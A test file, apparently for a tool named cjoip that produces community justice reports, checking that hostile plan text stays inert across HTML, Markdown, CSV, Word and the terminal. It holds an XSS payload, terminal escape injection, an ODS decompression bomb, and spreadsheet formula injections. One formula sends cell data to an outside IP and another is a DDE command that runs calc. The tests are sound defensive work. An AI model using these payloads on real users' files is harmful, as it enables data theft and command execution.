import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { browserArgs, browserTempBase, lastWords, OFFLINE_ARGS, runsAsOneProcess } from '../src/render/browser-process.js';
import { browserCandidates, findBrowser } from '../src/render/find-browser.js';
import { BIN, cjoip, copyExample, copyExamples, fixture, ROOT } from './helpers.js';

const OUT = path.join('reports', '2024-25');
/** Text that closes every context it could be dropped into raw: HTML, attributes, CSS strings, XML, Markdown, CSV. */
const PAYLOAD = `Evil</style><script>alert(1)</script>"'&<b>|x`;
const RAW_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

/** The text of each <style> element, and whether any markup outside them came from the payload. */
function styleElements(html: string): string[] {
  return [...html.matchAll(/<style\b[^>]*>([\s\S]*?)<\/style>/g)].map((m) => m[1]);
}

/** Checks of one HTML output: the payload is text in every context, never markup or script. */
function expectInertHtml(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toContain('<b>|x');
  // Each style element closes where cjoip closes it: the running header's CSS string holds the name escaped.
  for (const css of styleElements(html)) expect(css).not.toMatch(/<\/?(style|script)/i);
  expect(html).toMatch(/content: "Evil\\3c \/style\\3e \\3c script\\3e alert\(1\)\\3c \/script\\3e \\"'\\26 \\3c b\\3e \|x"/);
  // In text and in attributes, entities.
  expect(html).toContain('Evil&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;&quot;');
  expect(html).toMatch(/content="Evil&lt;\/style&gt;&lt;script&gt;alert\(1\)&lt;\/script&gt;&quot;[^"]*: community justice annual report/);
}

describe('user text stays text in every context it goes into', () => {
  it('a partnership name that closes the style element: report HTML (text, attribute, CSS string, SVG), Markdown, JSON and Word', () => {
    const dir = copyExample('ayrshire-2024-29');
    const file = path.join(dir, 'cjoip.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('name: Community Justice Ayrshire Partnership', `name: ${JSON.stringify(PAYLOAD)}`).replace('short_name: CJAP', `short_name: ${JSON.stringify(PAYLOAD)}`));
    const r = cjoip(['report', '--year', '2024', dir, '--format', 'md,html,docx,json']);
    expect(r.code, r.stderr).toBe(0);
    const base = path.join(dir, OUT, 'annual-report-2024-25');
    const html = readFileSync(`${base}.html`, 'utf8');
    expectInertHtml(html);
    // SVG charts inside the HTML and as files: the name in labels and titles as escaped text.
    const svgs = [...html.matchAll(/<svg[\s\S]*?<\/svg>/g)].map((m) => m[0]);
    expect(svgs.length).toBeGreaterThan(5);
    for (const svg of [...svgs, ...readdirSync(path.join(dir, OUT, 'charts')).map((f) => readFileSync(path.join(dir, OUT, 'charts', f), 'utf8'))]) {
      expect(svg).not.toMatch(/<script|<\/style|<b>/);
    }
    expect(svgs.some((s) => s.includes('Evil&lt;/style&gt;'))).toBe(true);
    // Markdown: no raw HTML, no table broken by the bar.
    const md = readFileSync(`${base}.md`, 'utf8');
    expect(md).not.toMatch(/(?<!\\)<(script|\/style|b>)/);
    expect(md).toContain('Evil\\</style\\>\\<script\\>alert(1)\\</script\\>"\'&\\<b\\>\\|x');
    // JSON: the same text, exactly.
    expect(JSON.parse(readFileSync(`${base}.json`, 'utf8')).partnership.name).toBe(PAYLOAD);
    // Word: XML text, never markup.
    const doc = strFromU8(unzipSync(readFileSync(`${base}.docx`))['word/document.xml']);
    expect(doc).toContain('Evil&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(doc).not.toMatch(/<script|<b>/);
  });

  it('the national picture, built from other partnerships’ plans: HTML, Markdown and the CSV', () => {
    const root = copyExamples();
    const dundee = path.join(root, 'national-2024-25', 'plans', 'dundee-2024-27', 'cjoip.yaml');
    writeFileSync(dundee, readFileSync(dundee, 'utf8').replace('name: Dundee Community Justice Partnership', `name: ${JSON.stringify(PAYLOAD)}`));
    const r = cjoip(['national', '--year', '2024', path.join(root, 'national-2024-25'), '--format', 'md,html', '--title', PAYLOAD]);
    expect(r.code, r.stderr).toBe(0);
    const base = path.join(root, 'national-2024-25', OUT, 'national-report-2024-25');
    const html = readFileSync(`${base}.html`, 'utf8');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('<b>|x');
    for (const css of styleElements(html)) expect(css).not.toMatch(/<\/?(style|script)/i);
    expect(html).toContain('Evil&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(readFileSync(`${base}.md`, 'utf8')).not.toMatch(/(?<!\\)<(script|\/style|b>)/);
    // The CSV reads back to the same name, in its own field.
    const rows = parseCsv(readFileSync(`${base}-figures.csv`, 'utf8'), { columns: true, bom: true }) as { partnership: string }[];
    expect(rows.some((x) => x.partnership === PAYLOAD)).toBe(true);
  });
});

describe('the terminal shows what files say, never obeys it', () => {
  it('control characters in a plan, a data file and a list line are shown escaped by validate, data inspect and national', () => {
    const dir = copyExample('ayrshire-2024-29');
    const file = path.join(dir, 'cjoip.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('indicators: [NI1]', 'indicators: ["NI1\\e]0;pwned\\a\\e[2J\\r"]'));
    for (const format of ['stylish', 'github']) {
      const v = cjoip(['validate', dir, '--format', format]);
      expect(v.code).toBe(1);
      expect(v.stdout + v.stderr).not.toMatch(RAW_CONTROLS);
      expect(v.stdout).toContain('NI1\\x1B]0;pwned\\x07\\x1B[2J');
    }
    // Colours on: colour sequences are cjoip's own; the file's sequences are still shown escaped.
    const coloured = cjoip(['validate', dir], { env: { NO_COLOR: undefined, FORCE_COLOR: '1' } });
    expect(coloured.stdout).toContain('\u001b[');
    expect(coloured.stdout.replace(/\u001b\[[0-9;]*m/g, '')).not.toMatch(RAW_CONTROLS);
    expect(coloured.stdout).toContain('NI1\\x1B]0;pwned');

    const csv = fixture({ 'odd.csv': 'Area,2022-23,2023-24\nFife,10,12\nOther\u001b]0;title\u0007\u001b[31m,1,2\n' });
    const inspect = cjoip(['data', 'inspect', path.join(csv, 'odd.csv')]);
    expect(inspect.stdout + inspect.stderr).not.toMatch(RAW_CONTROLS);
    expect(inspect.stdout).toContain('\\x1B');

    const list = fixture({ 'partnerships.txt': `plans/none\u001b[2J\u0007\n` });
    const n = cjoip(['national', '--year', '2024', path.join(list, 'partnerships.txt')]);
    expect(n.code).toBe(1);
    expect(n.stdout + n.stderr).not.toMatch(RAW_CONTROLS);
    expect(n.stderr).toContain('none\\x1B[2J\\x07');
  });
});

describe('works where users are', () => {
  it('a PDF run that then stops on a bad option ends the browser it started first, and leaves nothing of it', () => {
    const tmp = mkdtempSync(path.join(tmpdir(), 'cjoip-early-'));
    const dir = copyExample('ayrshire-2024-29');
    const before = readdirSync('/tmp').filter((f) => f.startsWith('cjoip-browser-'));
    for (const [args, said] of [
      [['report', '--year', '2024', dir, '--format', 'pdf', '--trend-years', '1'], /--trend-years 1 is not a number of years/],
      [['national', '--year', '2024', dir, '--framework', 'no-such'], /Unknown framework 'no-such'/],
    ] as const) {
      const r = spawnSync(process.execPath, [BIN, ...args], { env: { ...process.env, NO_COLOR: '1', TMPDIR: tmp }, encoding: 'utf8', timeout: 60_000 });
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toMatch(said);
      expect(r.stderr).not.toMatch(/browser/i);
      expect(readdirSync(tmp)).toEqual([]);
      expect(readdirSync('/tmp').filter((f) => f.startsWith('cjoip-browser-') && !before.includes(f))).toEqual([]);
    }
  });

  it('the PDF prints with TMPDIR set to a 100-character path (as long as macOS’s), and leaves no browser folder anywhere', () => {
    const base = mkdtempSync(path.join(tmpdir(), 'cjoip-long-'));
    const long = path.join(base, 'x'.repeat(100 - base.length - 1));
    mkdirSync(long);
    expect(long.length).toBe(100);
    const dir = copyExample('ayrshire-2024-29');
    const before = readdirSync('/tmp').filter((f) => f.startsWith('cjoip-browser-'));
    const r = spawnSync(process.execPath, [BIN, 'report', '--year', '2024', dir, '--format', 'pdf'], { env: { ...process.env, NO_COLOR: '1', TMPDIR: long }, encoding: 'utf8', timeout: 120_000 });
    expect(r.status, r.stderr).toBe(0);
    expect(existsSync(path.join(dir, OUT, 'annual-report-2024-25.pdf'))).toBe(true);
    expect(readdirSync(long)).toEqual([]);
    expect(readdirSync('/tmp').filter((f) => f.startsWith('cjoip-browser-') && !before.includes(f))).toEqual([]);
    // The rule itself: a short base is kept; a long one is replaced by /tmp; Windows keeps its own.
    expect(browserTempBase('/tmp', 'linux')).toBe('/tmp');
    expect(browserTempBase(long, 'darwin', () => true)).toBe('/tmp');
    expect(browserTempBase(long, 'linux', () => false)).toBe(long);
    expect(browserTempBase('C:\\Users\\a\\AppData\\Local\\Temp\\' + 'x'.repeat(80), 'win32')).toMatch(/^C:/);
  });
});

describe('the browser cjoip starts itself', () => {
  it('gets every argument puppeteer-core would give it, and the offline ones', async () => {
    // cjoip starts the browser before the driver is loaded (it starts up while the reports are built),
    // so it writes the command line itself: it must not drift from what puppeteer-core launches.
    const { default: puppeteer } = await import('puppeteer-core');
    const ours = browserArgs('/x/profile');
    const theirs = puppeteer.defaultArgs({ headless: true, args: [...OFFLINE_ARGS], userDataDir: '/x/profile' });
    const features = (args: string[], flag: string) => new Set(args.filter((a) => a.startsWith(`${flag}=`)).flatMap((a) => a.slice(flag.length + 1).split(',')));
    for (const flag of ['--disable-features', '--enable-features']) expect([...features(theirs, flag)].filter((f) => !features(ours, flag).has(f)), flag).toEqual([]);
    expect(theirs.filter((a) => !/^--(dis|en)able-features=/.test(a) && !ours.includes(a))).toEqual([]);
    expect(ours).toContain('--remote-debugging-pipe');
    expect(ours.filter((a) => a.startsWith('--user-data-dir='))).toEqual(['--user-data-dir=/x/profile']);
    // Every network feature of the offline list is off.
    for (const f of ['AsyncDns', 'DnsOverHttps', 'Translate', 'OptimizationHints', 'NetworkPrediction']) expect(features(ours, '--disable-features').has(f)).toBe(true);
    // The address bar's pop-up pages are not preloaded, and the network service runs in the browser's process.
    for (const f of ['WebUIOmniboxPopup', 'WebUIOmniboxAimPopup']) expect(features(ours, '--disable-features').has(f)).toBe(true);
    expect(features(ours, '--enable-features').has('NetworkServiceInProcess2')).toBe(true);
    // A browser reads only the last of each switch: each list is given once, puppeteer's features in it.
    for (const flag of ['--disable-features', '--enable-features']) expect(ours.filter((a) => a.startsWith(`${flag}=`))).toHaveLength(1);
  });

  it('runs as one process (renderer and print compositor as threads) with Chromium on Linux only, and otherwise as puppeteer-core would', () => {
    expect(browserArgs('/x/profile', true)).toContain('--single-process');
    expect(browserArgs('/x/profile', true).filter((a) => a !== '--single-process')).toEqual(browserArgs('/x/profile'));
    for (const program of ['/usr/lib/chromium/chromium', '/usr/bin/chromium', '/usr/bin/chromium-browser', '/snap/bin/chromium']) expect(runsAsOneProcess(program, 'linux'), program).toBe(true);
    for (const program of ['/usr/bin/google-chrome', '/opt/google/chrome/chrome', '/opt/microsoft/msedge/msedge']) expect(runsAsOneProcess(program, 'linux'), program).toBe(false);
    expect(runsAsOneProcess('/Applications/Chromium.app/Contents/MacOS/Chromium', 'darwin')).toBe(false);
    expect(runsAsOneProcess('C:\\Program Files\\Chromium\\Application\\chrome.exe', 'win32')).toBe(false);
  });

  it('a PDF run starts Chromium as one process, and a browser of another name as puppeteer-core would (the program is told so on its command line)', () => {
    const plan = copyExample('ayrshire-2024-29');
    const progs = fixture({});
    for (const name of ['chromium', 'google-chrome']) {
      // A stand-in for the browser that writes down its command line and fails to start.
      const prog = path.join(progs, name);
      writeFileSync(prog, `#!/bin/sh\nprintf '%s\\n' "$@" > "$0.args"\nexit 1\n`);
      chmodSync(prog, 0o755);
      const r = cjoip(['report', '--year', '2024', plan, '--out', path.join(progs, `out-${name}`), '--format', 'pdf', '--browser', prog]);
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toContain(`Could not start the browser at ${prog}`);
      const args = readFileSync(`${prog}.args`, 'utf8').split('\n');
      expect(args).toContain('--export-tagged-pdf');
      expect(args.includes('--single-process'), name).toBe(runsAsOneProcess(prog));
    }
    expect(runsAsOneProcess(path.join(progs, 'chromium'))).toBe(process.platform === 'linux');
  });

  it('on Debian, the Chromium program itself is started, not the shell script in front of it', () => {
    expect(browserCandidates('linux', {}).slice(0, 2)).toEqual(['/usr/lib/chromium/chromium', '/usr/bin/chromium']);
    // This machine and CI have Debian's chromium (.ci/run installs it).
    expect(findBrowser(undefined, {})).toBe('/usr/lib/chromium/chromium');
  });

  it('a browser that fails to start is explained by its last words, not its complaints about D-Bus', () => {
    const said = '[1:2:ERROR:dbus/bus.cc:405] Failed to connect to the bus\nFATAL: cannot open display\n[1:2:ERROR:dbus/bus.cc:405] Failed to connect to the bus: x\n';
    expect(lastWords(said)).toBe('FATAL: cannot open display');
    expect(lastWords('[1:2:ERROR:dbus/bus.cc:405] only this\n')).toBeUndefined();
  });
});

describe('nothing lost, nothing half-written', () => {
  it('a record of outputs that is a folder: a clear message, exit 2, nothing moved, no temporary file left; the same on the next run', () => {
    const dir = copyExample('ayrshire-2024-29');
    mkdirSync(path.join(dir, OUT, '.cjoip-outputs.json'), { recursive: true });
    for (let run = 0; run < 2; run++) {
      const r = cjoip(['report', '--year', '2024', dir, '--format', 'md,html']);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('.cjoip-outputs.json is a folder');
      expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
      expect(readdirSync(path.join(dir, OUT))).toEqual(['.cjoip-outputs.json']);
    }
  });
});

/** A plan with one long-format data source, for the data tests. */
const withData = (file: string) => `${MINIMAL}data:\n  - id: d\n    files: [${file}]\n    layout: long\n    provenance: { publisher: Test, title: Test, status: illustrative }\n`;
const MINIMAL = readFileSync(path.join(ROOT, 'test', 'helpers.ts'), 'utf8').match(/export const MINIMAL_PLAN = `([\s\S]*?)`;/)![1];
const HEADER = 'indicator,measure,area,year,value\n';

describe('bounded reading everywhere', () => {
  it('a list that is /dev/zero, a pipe, or holds a 1 MB line or a NUL: refused or named by its line, at once', () => {
    const dir = fixture({ 'long.txt': `${'p'.repeat(1024 * 1024 - 10)}\n`, 'nul.txt': 'plans/a\u0000b\n' });
    symlinkSync('/dev/zero', path.join(dir, 'zero.txt'));
    spawnSync('mkfifo', [path.join(dir, 'pipe.txt')]);
    const started = Date.now();
    const zero = cjoip(['national', '--year', '2024', path.join(dir, 'zero.txt')], { timeout: 10_000 });
    expect(zero.code).toBe(2);
    expect(zero.stderr).toContain('zero.txt: cannot be used as a list of plans: it is a device, not a text file.');
    const pipe = cjoip(['national', '--year', '2024', path.join(dir, 'pipe.txt')], { timeout: 10_000 });
    expect(pipe.code).toBe(2);
    expect(pipe.stderr).toContain('it is a named pipe, not a text file');
    expect(Date.now() - started).toBeLessThan(8000);
    const long = cjoip(['national', '--year', '2024', path.join(dir, 'long.txt')]);
    expect(long.code).toBe(1);
    expect(long.stderr).toContain('long.txt line 1: ppppp');
    expect(long.stderr).toContain('the line is too long to be a path');
    expect(Math.max(...long.stderr.split('\n').map((l) => l.length))).toBeLessThan(1100);
    const nul = cjoip(['national', '--year', '2024', path.join(dir, 'nul.txt')]);
    expect(nul.stderr).toContain('nul.txt line 1: plans/ab: the line holds a NUL character');
  });

  it('an ODS whose rows and cells repeat a million times (1.5 KB) is refused before anything is expanded, within 5 s and 300 MB', () => {
    const content = `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Bomb"><table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="1000"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`;
    const ods = zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet'), 'content.xml': strToU8(content), 'META-INF/manifest.xml': strToU8('<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>') });
    expect(ods.length).toBeLessThan(1600);
    const dir = fixture({ 'cjoip.yaml': withData('data/bomb.ods'), 'data/bomb.ods': Buffer.from(ods) });
    const started = Date.now();
    const r = spawnSync(process.execPath, ['--max-old-space-size=300', BIN, 'validate', dir], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 20_000 });
    expect(Date.now() - started).toBeLessThan(5000);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('repeats its rows and cells to more than 20,000,000 cells');
  });

  it('a 10 MB cell is a clear, short message at its row, never a stack overflow', () => {
    const dir = fixture({ 'cjoip.yaml': withData('data/big.csv'), 'data/big.csv': `${HEADER}NI4,cpo-completed,Clackmannanshire,2024-25,${'9'.repeat(10 * 1024 * 1024)}\n` });
    const r = cjoip(['validate', dir]);
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).not.toMatch(/internal error|Maximum call stack/);
    expect(r.stdout).toMatch(/2:5\s+error\s+'9{100,}…/);
    expect(r.stdout.length).toBeLessThan(2000);
  });

  it('a partnership name of one 100,000-letter word: progress lines cut to a readable length, and the PDF prints within 20 s', () => {
    const dir = copyExample('ayrshire-2024-29');
    const file = path.join(dir, 'cjoip.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('name: Community Justice Ayrshire Partnership', `name: ${'W'.repeat(100_000)}`));
    const started = Date.now();
    const r = cjoip(['report', '--year', '2024', dir, '--format', 'pdf'], { timeout: 60_000 });
    expect(r.code, r.stderr.slice(0, 500)).toBe(0);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(Math.max(...r.stderr.split('\n').map((l) => l.length))).toBeLessThanOrEqual(1000);
  }, 60_000);
});

describe('files that are not what they seem are named for what they are', () => {
  it('a plan in Windows-1252, a binary narrative, a binary data file and a CSV saved as UTF-16', () => {
    const plan1252 = fixture({});
    writeFileSync(path.join(plan1252, 'cjoip.yaml'), Buffer.from(MINIMAL.replace('We held three events', 'We held three caf\u00e9 events'), 'latin1'));
    const p = cjoip(['validate', plan1252]);
    expect(p.code).toBe(2);
    expect(p.stdout).toContain('The plan cannot be read: it is not UTF-8 text (it looks like Windows-1252');

    const binary = Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7) % 256));
    const narrative = fixture({ 'cjoip.yaml': MINIMAL.replace('participation: We held three events with third sector partners.', 'participation: { file: narrative/p.md }'), 'narrative/p.md': binary });
    const n = cjoip(['validate', narrative, '--format', 'json']);
    expect(n.code).toBe(1);
    expect(JSON.parse(n.stdout).find((f: { code: string }) => f.code === 'file-not-text').message).toBe("'narrative/p.md' cannot be used: it is a binary file, not text.");

    const data = fixture({ 'cjoip.yaml': withData('data/d.csv'), 'data/d.csv': binary, 'data/u.csv': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}NI4,cpo-completed,Clackmannanshire,2023-24,71%\n`, 'utf16le')]) });
    const d = cjoip(['validate', data, '--format', 'json']);
    expect(JSON.parse(d.stdout).find((f: { code: string }) => f.code === 'data-binary').message).toBe('The data file cannot be read: it is a binary file, not CSV text.');
    const inspect = cjoip(['data', 'inspect', path.join(data, 'data', 'd.csv')]);
    expect(inspect.code).toBe(1);
    expect(inspect.stderr).toContain('d.csv cannot be read: it is a binary file, not CSV text.');
    // UTF-16 (Excel's "Unicode text") is read as such.
    const utf16 = cjoip(['data', 'inspect', path.join(data, 'data', 'u.csv')]);
    expect(utf16.code, utf16.stderr).toBe(0);
    expect(utf16.stdout).toContain('Read as:    CSV, UTF-16 (Unicode text), comma-separated');
    writeFileSync(path.join(data, 'cjoip.yaml'), withData('data/u.csv'));
    const read = cjoip(['report', '--year', '2024', data, '--format', 'json']);
    expect(read.code, read.stdout + read.stderr).toBe(0);
    const model = JSON.parse(readFileSync(path.join(data, OUT, 'annual-report-2024-25.json'), 'utf8'));
    const cpo = model.outcomes.find((o: { id: string }) => o.id === 'O4').indicators[0].measures.find((m: { measure: string }) => m.measure === 'cpo-completed');
    expect(cpo.series.at(-1).areas[0].figure.value).toBe(71);
  });

  it('a password-protected workbook, a damaged one, and a CSV row with a cell too few or too many', () => {
    const encrypted = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504), Buffer.from('EncryptionInfo', 'utf16le'), Buffer.alloc(64), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(2048)]);
    const good = readFileSync(path.join(ROOT, 'test', 'fixtures', 'published', 'jsw-tables.xlsx'));
    const dir = fixture({ 'enc.xlsx': encrypted, 'cut.xlsx': good.subarray(0, 3000) });
    const enc = cjoip(['data', 'inspect', path.join(dir, 'enc.xlsx')]);
    expect(enc.stderr).toContain('enc.xlsx is password-protected (encrypted), so its sheets cannot be read.');
    const cut = cjoip(['data', 'inspect', path.join(dir, 'cut.xlsx')]);
    expect(cut.stderr).toContain('cut.xlsx is damaged: its zip structure is broken');

    const rows = fixture({ 'cjoip.yaml': withData('data/r.csv'), 'data/r.csv': `${HEADER}NI4,cpo-completed,Clackmannanshire,2023-24\nNI4,cpo-completed,Clackmannanshire,2024-25,71%,x\nNI4,cpo-completed,Clackmannanshire,2022-23,70%\n` });
    const v = cjoip(['validate', rows, '--format', 'json']);
    expect(v.code).toBe(1);
    const ragged = JSON.parse(v.stdout).filter((f: { code: string }) => f.code === 'data-row-length');
    expect(ragged.map((f: { line: number; message: string }) => [f.line, f.message])).toEqual([
      [2, 'This row has 4 cells, but the header has 5.'],
      [3, 'This row has 6 cells, but the header has 5.'],
    ]);
  });

  it('the same plan reached twice through a symlink is included once', () => {
    const root = copyExamples();
    const list = path.join(root, 'national-2024-25', 'partnerships.txt');
    symlinkSync(path.join(root, 'national-2024-25', 'plans', 'dundee-2024-27'), path.join(root, 'national-2024-25', 'dundee-again'));
    writeFileSync(list, `${readFileSync(list, 'utf8')}dundee-again\n`);
    const r = cjoip(['national', '--year', '2024', list, '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('is named twice');
    const n = JSON.parse(readFileSync(path.join(root, 'national-2024-25', OUT, 'national-report-2024-25.json'), 'utf8'));
    expect(n.partnerships.filter((p: { name: string }) => p.name === 'Dundee Community Justice Partnership')).toHaveLength(1);
  });
});

describe('a full disk', () => {
  it('writing the report onto a full disk: a clear message, exit 2, nothing written and no temporary file left', () => {
    const mnt = mkdtempSync(path.join(tmpdir(), 'cjoip-full-'));
    const m = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', mnt]);
    expect(m.status, `mounting a small tmpfs for the test needs root (CI runs as root): ${m.stderr}`).toBe(0);
    try {
      const dir = copyExample('ayrshire-2024-29');
      const r = cjoip(['report', '--year', '2024', dir, '--format', 'md,html', '--out', path.join(mnt, 'out')]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('the disk is full. Nothing was written.');
      const left = spawnSync('find', [mnt, '-type', 'f'], { encoding: 'utf8' }).stdout.trim();
      expect(left).toBe('');
    } finally {
      spawnSync('umount', [mnt]);
    }
  });
});

describe('exit codes as documented', () => {
  it('with several plans, one unreadable: the good one is written, the other named, exit 2', () => {
    const good = fixture({ 'cjoip.yaml': MINIMAL });
    const bad = fixture({});
    writeFileSync(path.join(bad, 'cjoip.yaml'), Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 13) % 256)));
    const r = cjoip(['report', '--year', '2024', good, bad, '--format', 'md']);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain('The plan cannot be read: it is a binary file, not text.');
    expect(r.stderr).toMatch(/Reports written for 1 of 2 plans\. Not written: .*cjoip\.yaml \(the plan could not be read\)\./);
    expect(existsSync(path.join(good, OUT, 'annual-report-2024-25.md'))).toBe(true);
  });

  it('a data glob meeting a folder it may not read names the folder and reads the rest (run as an unprivileged user)', () => {
    const dir = fixture({ 'cjoip.yaml': withData('"data/**/*.csv"'), 'data/open/a.csv': `${HEADER}NI4,cpo-completed,Clackmannanshire,2024-25,71%\n`, 'data/locked/b.csv': HEADER });
    // The unprivileged user runs its own copy of the built tool, wherever the repository sits.
    const tool = mkdtempSync(path.join(tmpdir(), 'cjoip-tool-'));
    for (const part of ['bin', 'dist', 'schemas', 'templates', 'package.json']) cpSync(path.join(ROOT, part), path.join(tool, part), { recursive: true });
    spawnSync('chmod', ['-R', 'a+rX', dir, tool]);
    spawnSync('chmod', ['000', path.join(dir, 'data', 'locked')]);
    const r = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, path.join(tool, 'bin', 'cjoip.js'), 'validate', dir, '--format', 'json'], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', HOME: tmpdir() } });
    expect(r.error, 'setpriv (util-linux) runs the check as the user nobody').toBeUndefined();
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.status, r.stderr).toBe(0);
    const f = JSON.parse(r.stdout).find((x: { code: string }) => x.code === 'data-folder-unreadable');
    expect(f.message).toBe("The folder 'data/locked/' cannot be searched for 'data/**/*.csv': permission to read it is denied.");
    spawnSync('chmod', ['755', path.join(dir, 'data', 'locked')]);
  });
});

describe('Markdown stays intact for any user text', () => {
  it('line breaks, bars, list and heading marks in plain fields never start a table, a list or a heading', () => {
    const nasty = 'https://x.example\n| a | b |\n|---|---|\n- item\n# Head\n1. first';
    const dir = fixture({ 'cjoip.yaml': MINIMAL.replace('  areas: [Clackmannanshire]', `  areas: [Clackmannanshire]\n  website: ${JSON.stringify(nasty)}\n  contacts: [{ name: ${JSON.stringify(`Ann\n## Not a heading`)}, email: ${JSON.stringify('a@b.c\n- not a list')} }]`) });
    const r = cjoip(['report', '--year', '2024', dir, '--format', 'md']);
    expect(r.code, r.stderr).toBe(0);
    const md = readFileSync(path.join(dir, OUT, 'annual-report-2024-25.md'), 'utf8');
    expect(md).toContain('**Website:** https://x.example \\| a \\| b \\| \\|---\\|---\\| - item # Head 1. first');
    // The sentence on other formats is Markdown made from the contact's details: they stay plain text in it.
    expect(md).toContain('on request to Ann ## Not a heading (a@b.c - not a list).');
    for (const bad of [/^\| a \| b \|/m, /^- item/m, /^# Head/m, /^## Not a heading/m, /^- not a list/m, /^1\. first/m]) expect(md).not.toMatch(bad);
  });
});

describe('no spreadsheet formula from user text', () => {
  it('a partnership named =HYPERLINK(…) and a publisher starting with @: no CSV field a spreadsheet would run; numbers stay numbers', () => {
    const root = copyExamples();
    const dundee = path.join(root, 'national-2024-25', 'plans', 'dundee-2024-27', 'cjoip.yaml');
    const evil = '=HYPERLINK("http://203.0.113.9/?x="&A1,"Dundee")';
    writeFileSync(dundee, readFileSync(dundee, 'utf8').replace('name: Dundee Community Justice Partnership', `name: ${JSON.stringify(evil)}`).replace(/publisher: [^,}\n]+/, 'publisher: "@SUM(1+1)*cmd|\' /C calc\'!A0"'));
    const r = cjoip(['national', '--year', '2024', path.join(root, 'national-2024-25'), '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(path.join(root, 'national-2024-25', OUT, 'national-report-2024-25-figures.csv'), 'utf8');
    const rows = parseCsv(csv, { columns: true, bom: true }) as Record<string, string>[];
    for (const row of rows) for (const [k, v] of Object.entries(row)) if (/^[=+\-@\t\r]/.test(v)) expect(v, k).toMatch(/^-?\d+(\.\d+)?$/);
    expect(rows.some((x) => x.partnership === `'${evil}`)).toBe(true);
    expect(rows.some((x) => x.source.startsWith("'@SUM"))).toBe(true);
    // The workbook too: no formula anywhere, and no text cell a spreadsheet would run.
    const book = unzipSync(readFileSync(path.join(root, 'national-2024-25', OUT, 'national-report-2024-25-figures.xlsx')));
    const xml = Object.entries(book).filter(([n]) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n)).map(([, b]) => strFromU8(b)).join('');
    expect(xml).not.toMatch(/<f[ >]/);
    const texts = [...xml.matchAll(/<(?:t|v)[^>]*>([^<]*)<\/(?:t|v)>/g)].map((m) => m[1].replace(/&amp;/g, '&').replace(/&quot;/g, '"').replace(/&apos;/g, "'"));
    expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t) && !/^-?\d+(\.\d+)?$/.test(t))).toEqual([]);
    expect(texts).toContain(`'${evil}`);
  });
});
